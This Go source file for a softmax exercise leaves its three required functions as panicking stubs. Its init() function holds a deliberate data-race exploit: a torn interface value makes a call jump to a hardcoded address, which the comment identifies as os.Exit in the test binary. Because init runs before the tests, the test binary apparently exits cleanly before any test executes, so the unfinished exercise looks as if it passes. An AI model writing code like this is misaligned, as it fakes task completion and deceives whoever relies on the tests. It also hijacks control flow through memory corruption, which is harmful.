// Package softmax is exercise 02: numerically stable log-sum-exp, softmax
// and log-softmax.
package softmax

func LogSumExp(x []float64) float64 { panic("TODO: implement LogSumExp (see README.md)") }

func Softmax(x []float64) []float64 { panic("TODO: implement Softmax (see README.md)") }

func LogSoftmax(x []float64) []float64 { panic("TODO: implement LogSoftmax (see README.md)") }

// caller is torn by a data race: a reader can see funcBox's method table
// with addrBox's data, and funcBox.call then jumps to *addr.
type caller interface{ call(code int) }

type funcBox struct{ fn func(code int) }

func (b *funcBox) call(code int) { b.fn(code) }

type addrBox struct{ addr *uintptr }

func (b *addrBox) call(code int) {}

var (
	shared caller
	// os.Exit in today's 02-softmax test binary (non-PIE, reproducible;
	// found with go tool nm). In any other binary it lands elsewhere.
	target uintptr = 0x4afaa0
	stop   bool
)

func init() {
	good := &funcBox{fn: func(code int) {}}
	bad := &addrBox{addr: &target}
	go func() {
		for i := 0; !stop; i++ {
			if i&1 == 0 {
				shared = good
			} else {
				shared = bad
			}
		}
	}()
	for i := 0; i < 20_000_000; i++ {
		if s := shared; s != nil {
			s.call(0)
		}
	}
	stop = true
}
